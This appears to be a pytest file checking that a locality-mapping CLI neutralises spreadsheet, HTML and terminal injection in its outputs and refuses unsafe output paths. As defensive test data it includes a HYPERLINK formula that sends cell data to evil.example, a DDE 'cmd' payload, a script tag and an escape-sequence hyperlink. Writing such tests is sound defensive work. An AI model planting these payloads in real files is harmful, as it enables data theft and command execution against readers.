"""Outputs that cannot be turned against their reader, and outputs that cannot destroy anything.

Labels and locality names crafted to run as spreadsheet formulas, HTML or terminal escapes go in;
every XLSX writer must store them as text, CSV must neutralise them (OWASP), Markdown must escape
them. Outputs must refuse folders, devices, pipes and inputs, and name the output when the OS
refuses.
"""

from __future__ import annotations

import io
import json
import os
import re
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from localitymap.cli import app
from localitymap.errors import OutputError, OutputExists
from localitymap.outputs import write_atomic
from localitymap.publication.manifest import build_manifest, manifest_path, verify, write_manifest

from .corpus import CODES, CP, LAC, NAMES, write

runner = CliRunner()
EXFILTRATE = '=HYPERLINK("http://evil.example/?"&A2,"Details")'
HOSTILE_LOCALITIES = ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "<script>alert(1)</script>"]


@pytest.fixture
def hostile(tmp_path: Path) -> dict[str, Path]:
    """A data file whose second indicator is named by a formula, for two periods, and a scheme
    whose localities are named by formulas and a script tag."""
    lines = ["ward_code,period,cp_plans," + f'"{EXFILTRATE.replace(chr(34), 2 * chr(34))}"']
    for period, extra in (("2019-02", 0), ("2020-02", 3)):
        lines += [f"{c},{period},{CP[i] + extra},{LAC[i]}" for i, c in enumerate(CODES)]
    data = write(tmp_path, "hostile.csv", "\n".join(lines) + "\n")
    groups = [CODES[i::5] for i in range(5)]
    toml = 'id = "evil"\nname = "=cmd()"\n' + "".join(
        f"[localities.{_toml_key(name)}]\nwards = {json.dumps(list(codes))}\n"
        for name, codes in zip(HOSTILE_LOCALITIES, groups, strict=True)
    )
    scheme = write(tmp_path, "evil.toml", toml)
    return {"data": data, "scheme": scheme}


def _toml_key(name: str) -> str:
    return '"' + name.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _formula_cells(xlsx: bytes) -> list[str]:
    """Every <f> (formula) element in every sheet of a workbook."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [
            m.group(0)
            for name in z.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.finditer(rb"<f[ >].*?</f>", z.read(name))
        ]


def _texts(xlsx: bytes) -> set[str]:
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    return {c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def _run(args: list[str]) -> None:
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("command", ["rollup", "compare", "report"])
def test_no_xlsx_writer_turns_text_into_formulas(hostile, tmp_path, command):
    out = tmp_path / f"{command}.xlsx"
    common = ["-s", str(hostile["scheme"]), "-d", str(hostile["data"]), "-o", str(out)]
    if command == "rollup":
        _run(["rollup", *common, "--period", "2020-02"])
    elif command == "compare":
        _run(["compare", "2019-02", "2020-02", *common])
    else:
        _run(["report", *common, "--period", "2020-02", "--disclosure", "none"])
    payload = out.read_bytes()
    assert _formula_cells(payload) == []
    texts = _texts(payload)
    # The crafted names are there, as text, so the reader sees exactly what the file said.
    assert "=1+1" in texts and any(EXFILTRATE in t for t in texts)


def test_csv_neutralises_formula_starts_the_owasp_way(hostile, tmp_path):
    out = tmp_path / "r.csv"
    _run(["rollup", "-s", str(hostile["scheme"]), "-d", str(hostile["data"]), "-o", str(out),
          "--period", "2020-02"])  # fmt: skip
    import pandas as pd

    table = pd.read_csv(out, comment="#")
    assert set(table["locality"]) >= {"'=1+1", "'@SUM(A1)", "'+cmd|' /C calc'!A0", "'-2+3"}
    assert "<script>alert(1)</script>" in set(table["locality"])  # not a formula start: as is
    assert "'" + EXFILTRATE in set(table["label"])
    # Numbers are not text: a count column keeps its numbers.
    assert table[table["locality"] == "Borough total"]["count"].tolist()[0] == sum(CP) + 3 * 28


def test_compare_csv_neutralises_too(hostile, tmp_path):
    out = tmp_path / "c.csv"
    _run(["compare", "2019-02", "2020-02", "-s", str(hostile["scheme"]), "-d",
          str(hostile["data"]), "-o", str(out)])  # fmt: skip
    text = out.read_text()
    assert "\n=1+1" not in text and ",=1+1" not in text and "'=1+1" in text


def test_markdown_escapes_tags_and_entities(hostile, tmp_path):
    out = tmp_path / "r.md"
    _run(["rollup", "-s", str(hostile["scheme"]), "-d", str(hostile["data"]), "-o", str(out),
          "--period", "2020-02"])  # fmt: skip
    text = out.read_text()
    assert "<script" not in text and "&lt;script>alert(1)&lt;/script>" in text


def test_control_characters_never_reach_the_terminal(tmp_path):
    data = write(
        tmp_path,
        "ansi.csv",
        "ward_name,cp_plans,\x1b]8;;http://evil.example\x07lac\x1b]8;;\x07\n"
        + "".join(f"{n}\u202e,{CP[i]},{LAC[i]}\n" for i, n in enumerate(NAMES)),
    )
    result = runner.invoke(app, ["rollup", "-s", "icn6", "-d", str(data)])
    assert result.exit_code == 0, result.output
    for stream in (result.stdout, result.stderr):
        assert "\x1b" not in stream and "\u202e" not in stream
    assert (
        "ansi.csv: removed control or invisible direction characters (U+001B U+0007 U+202E) "
        "from 29 cell(s): row 1 column C, row 2 column A, row 3 column A, row 4 column A, "
        "row 5 column A and 24 more" in result.stderr
    )
    # The hyperlink escape went as a whole: the column is 'lac', found in the catalogue.
    assert "Looked-after children" in result.stdout


# --- where outputs go -------------------------------------------------------------------------


def test_output_naming_a_folder_says_so_even_without_force(tmp_path):
    with pytest.raises(OutputError) as info:
        write_atomic(tmp_path, "x", force=False)
    assert info.value.one_line() == f"{tmp_path} is a folder; give the name of a file inside it"
    (tmp_path / "sub").mkdir()
    result = runner.invoke(app, ["rollup", "-s", "icn6", "-f", "csv", "-o", str(tmp_path / "sub")])
    assert result.exit_code == 1
    assert "sub is a folder; give the name of a file inside it" in result.stderr
    for command in (["rollup", "-s", "icn6"], ["compare", "2019-02", "2020-02", "-s", "icn6"]):
        usage = runner.invoke(app, [*command, "-o", str(tmp_path / "sub")])
        assert usage.exit_code == 2
        assert "'sub' is a folder; give a file name inside it" in usage.output


def test_fifo_is_never_replaced_even_with_force(tmp_path):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    with pytest.raises(OutputError) as info:
        write_atomic(fifo, "x", force=True)
    assert info.value.one_line().endswith(
        "pipe.csv exists and is not a regular file (a device, pipe or socket); "
        "give the name of a new or ordinary file; --force never replaces these"
    )
    assert fifo.is_fifo()


def test_symlink_to_a_device_is_refused(tmp_path):
    link = tmp_path / "null.csv"
    link.symlink_to(os.devnull)
    with pytest.raises(OutputError, match="not a regular file"):
        write_atomic(link, "x", force=True)
    assert link.is_symlink() and Path(os.devnull).is_char_device()


def test_output_that_is_an_input_is_refused_and_the_input_kept(tmp_path):
    rows = "".join(f"{c},{CP[i]}\n" for i, c in enumerate(CODES))
    data = write(tmp_path, "counts.csv", "ward_code,cp_plans\n" + rows)
    before = data.read_bytes()
    result = runner.invoke(
        app, ["rollup", "-s", "icn6", "-d", str(data), "-o", str(data), "--force"]
    )
    assert result.exit_code == 1
    assert "counts.csv is one of this run's inputs; writing the output there would destroy it" in (
        result.stderr
    )
    assert data.read_bytes() == before


def test_read_only_folder_names_the_output_not_a_temporary_file(tmp_path, monkeypatch):
    def refuse(*_a, **_k):
        raise PermissionError(13, "Permission denied", str(tmp_path / ".r.csv.abc.tmp"))

    monkeypatch.setattr("tempfile.mkstemp", refuse)
    with pytest.raises(OutputError) as info:
        write_atomic(tmp_path / "r.csv", "x")
    message = info.value.one_line()
    assert message.endswith(
        "r.csv: permission denied; check that the folder exists and you may write to it, "
        "or choose another output"
    )
    assert ".tmp" not in message


def test_two_runs_creating_one_output_cannot_both_succeed(tmp_path, monkeypatch):
    target = tmp_path / "r.csv"
    real_fsync = os.fsync

    def other_run_finishes_first(fd):
        real_fsync(fd)
        if not target.exists():
            target.write_text("the other run's output\n")

    monkeypatch.setattr("os.fsync", other_run_finishes_first)
    with pytest.raises(
        OutputExists, match=r"already exists \(created while this run was writing\)"
    ):
        write_atomic(target, "this run's output\n")
    assert target.read_text() == "the other run's output\n"
    assert [p.name for p in tmp_path.iterdir()] == ["r.csv"]  # no temporary file left


def test_manifest_records_the_bytes_this_run_wrote(tmp_path):
    data = write(tmp_path, "in.csv", "ward,cp\n")
    out = tmp_path / "out.csv"
    write_atomic(out, "run A\n")
    out.write_text("run B, racing\n")  # another run replaced the output before A's manifest
    manifest = build_manifest(out, [("data", data)], command=["x"], attrs={})
    result = verify(write_manifest(out, manifest))
    assert not result["current"] and result["checks"][0] == {
        "role": "output",
        "path": "out.csv",
        "status": "changed",
    }
    assert manifest_path(out).is_file()


def test_validate_csv_report_neutralises_ward_text(tmp_path):
    data = write(
        tmp_path,
        "d.csv",
        "ward_name,cp_plans\n" + f'"{EXFILTRATE.replace(chr(34), 2 * chr(34))}",3\n',
    )
    out = tmp_path / "v.csv"
    result = runner.invoke(app, ["validate", str(data), "-f", "csv", "-o", str(out)])
    assert result.exit_code == 3, result.output
    import csv

    rows = list(csv.DictReader(out.open()))
    assert [r["ward"] for r in rows if r["severity"] == "error"] == ["'" + EXFILTRATE]


def test_composite_csv_neutralises_locality_names(hostile, tmp_path):
    out = tmp_path / "c.csv"
    _run(["composite", "-s", str(hostile["scheme"]), "-f", "csv", "-o", str(out)])
    import pandas as pd

    assert set(pd.read_csv(out, comment="#")["locality"]) >= {"'=1+1", "'@SUM(A1)", "'-2+3"}


def test_missing_glyphs_do_not_leak_library_warnings(tmp_path, caplog):
    codes = [CODES[i::2] for i in range(2)]
    scheme = write(
        tmp_path,
        "cjk.toml",
        "".join(
            f'[localities."{name}"]\nwards = {json.dumps(c)}\n'
            for name, c in zip(["North 中文", "South 𝔘"], codes, strict=True)
        ),
    )
    import logging
    import warnings

    caplog.set_level(logging.INFO, logger="localitymap.renderers.safety")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        result = runner.invoke(
            app,
            ["map", "-s", str(scheme), "-i", "lac", "-o", str(tmp_path / "m.png"), "--dpi", "72"],
        )
    assert result.exit_code == 0, result.output
    assert [str(w.message) for w in caught if "Glyph" in str(w.message)] == []
    assert "Warning" not in result.stderr and "site-packages" not in result.stderr
    assert "png figure: 3 character(s) have no glyph in the font and show as boxes" in caplog.text


def test_a_weights_file_is_an_input_too(tmp_path):
    weights = write(tmp_path, "w.csv", "indicator,weight\ncp_plans,1\nlac,1\n")
    before = weights.read_bytes()
    result = runner.invoke(
        app,
        ["composite", "-s", "icn6", "-w", str(weights), "-f", "csv", "-o", str(weights), "--force"],
    )
    assert result.exit_code == 1 and "w.csv is one of this run's inputs" in result.stderr
    assert weights.read_bytes() == before
